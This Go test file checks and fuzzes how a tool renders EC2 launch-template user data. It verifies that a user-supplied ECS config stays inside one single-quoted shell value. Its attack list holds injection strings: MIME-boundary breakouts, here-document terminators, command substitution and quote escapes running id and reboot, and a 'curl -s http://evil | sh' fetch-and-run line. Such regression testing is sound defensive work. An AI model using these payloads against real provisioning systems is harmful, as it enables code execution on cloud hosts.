package forge

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
	"mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"

	"github.com/ceforge/ceforge/internal/cloudinit"
	"github.com/ceforge/ceforge/internal/computeenv"
)

// ecsConfigAttacks are ecsConfig values that try to leave their place in the
// launch template's user data: a second MIME part (bare CR, CRLF, LF line
// endings around the boundary ceforge used to use), the end of the
// here-document ceforge used to append them with, or their quotes.
var ecsConfigAttacks = []string{
	"ECS_A=1\r--==CEFORGE==\rContent-Type: text/x-shellscript\r\r#!/bin/bash\rcurl -s http://evil | sh\r",
	"ECS_A=1\r\n--==CEFORGE==\r\nContent-Type: text/x-shellscript\r\n\r\n#!/bin/bash\r\nid\r\n",
	"ECS_A=1\n--==CEFORGE==\nContent-Type: text/x-shellscript\n\n#!/bin/bash\nid\n--==CEFORGE==--\n",
	"ECS_A=1\nCEFORGE_ECS_EOF\nid\n",
	"ECS_A=1\rCEFORGE_ECS_EOF\rreboot\r",
	"ECS_A=$(reboot)`id`\n",
	"ECS_A='; reboot; '\n",
}

// userDataScript renders d's user data, parses it as cloud-init would and
// returns its one shell-script part (failing on anything else).
func userDataScript(t testing.TB, d Design) string {
	t.Helper()
	raw, err := base64.StdEncoding.DecodeString(d.UserData("", "fs-0123456789abcdef0.fsx.eu-west-1.amazonaws.com", "abcd1234"))
	require.NoError(t, err)
	parts, err := cloudinit.Parse(raw)
	require.NoError(t, err)
	require.Len(t, parts, 1, "exactly one user-data part: %q", raw)
	require.Equal(t, cloudinit.ShellScript, parts[0].Type)
	return parts[0].Body
}

// scriptShape returns the command names of the script's top-level
// statements and the values of its ecsConfig assignment
// (CEFORGE_ECS_CONFIG), each checked to be one literal word: single
// quotes, and "'" for an embedded quote, nothing that expands.
func scriptShape(t testing.TB, script string) (cmds, ecsConfigs []string) {
	t.Helper()
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(script), "user-data")
	require.NoError(t, err, "user data must parse as bash")
	for _, st := range f.Stmts {
		name := "?"
		c, ok := st.Cmd.(*syntax.CallExpr)
		if ok && len(c.Args) > 0 {
			name = c.Args[0].Lit()
		}
		cmds = append(cmds, name)
		if !ok || len(c.Args) > 0 {
			continue
		}
		for _, a := range c.Assigns {
			if a.Name.Value != "CEFORGE_ECS_CONFIG" {
				continue
			}
			for _, p := range a.Value.Parts {
				switch p := p.(type) {
				case *syntax.SglQuoted:
				case *syntax.DblQuoted:
					lit, ok := p.Parts[0].(*syntax.Lit)
					require.True(t, len(p.Parts) == 1 && ok && lit.Value == "'", "ecsConfig may expand")
				default:
					t.Fatalf("ecsConfig word part %T can expand", p)
				}
			}
			v, err := expand.Literal(nil, a.Value)
			require.NoError(t, err)
			ecsConfigs = append(ecsConfigs, v)
		}
	}
	return cmds, ecsConfigs
}

// asParsed is cfg as the host script holds it, read back from user data
// the way cloud-init's parser sees lines.
func asParsed(cfg string) string {
	return strings.ReplaceAll(strings.ReplaceAll(strings.TrimRight(cfg, "\n"), "\r\n", "\n"), "\r", "\n")
}

func designWithEcsConfig(cfg string) Design {
	return NewDesign("ceforge-", ce(func(_ *computeenv.BatchOptions, f *computeenv.ForgeOptions) {
		f.EcsConfig, f.FsxName, f.FsxMount = cfg, "fs-0123456789abcdef0.fsx.eu-west-1.amazonaws.com", "/mnt/fsx"
	}))
}

// checkEcsConfigContained: the user text is one single-quoted value,
// verbatim (as the parser reads its lines), and the script around it is
// the same as for a harmless value.
func checkEcsConfigContained(t testing.TB, cfg string) {
	t.Helper()
	wantCmds, _ := scriptShape(t, userDataScript(t, designWithEcsConfig("ECS_A=1")))
	cmds, values := scriptShape(t, userDataScript(t, designWithEcsConfig(cfg)))
	require.Equal(t, wantCmds, cmds, "the ecsConfig text added or removed commands")
	require.Equal(t, []string{asParsed(cfg)}, values)
}

func TestUserDataKeepsHostileEcsConfigInItsValue(t *testing.T) {
	for _, cfg := range ecsConfigAttacks {
		checkEcsConfigContained(t, cfg)
	}
}

// FuzzForgeUserData renders launch-template user data from arbitrary
// ecsConfig text (validation refuses most of it; the renderer must not rely
// on that) and parses it as cloud-init would: exactly one shell-script part,
// the text inside its single-quoted value and nowhere else.
func FuzzForgeUserData(f *testing.F) {
	for _, s := range ecsConfigAttacks {
		f.Add(s, true, false)
	}
	f.Add("ECS_ENABLE_GPU_SUPPORT=true\n# comment\n", false, true)
	f.Fuzz(func(t *testing.T, cfg string, ebsAutoScale, fastStorage bool) {
		if strings.ContainsRune(cfg, 0) || !utf8.ValidString(cfg) || strings.TrimRight(cfg, "\n") == "" {
			t.Skip("NUL and invalid UTF-8 are refused by validation (and unreadable by the shell parser); an empty config is no test")
		}
		d := designWithEcsConfig(cfg)
		d.EbsAutoScale, d.EbsBlockSize, d.FastStorage = ebsAutoScale, 50, fastStorage
		base := designWithEcsConfig("ECS_A=1")
		base.EbsAutoScale, base.EbsBlockSize, base.FastStorage = ebsAutoScale, 50, fastStorage
		wantCmds, _ := scriptShape(t, userDataScript(t, base))
		cmds, values := scriptShape(t, userDataScript(t, d))
		require.Equal(t, wantCmds, cmds)
		require.Equal(t, []string{asParsed(cfg)}, values)
	})
}
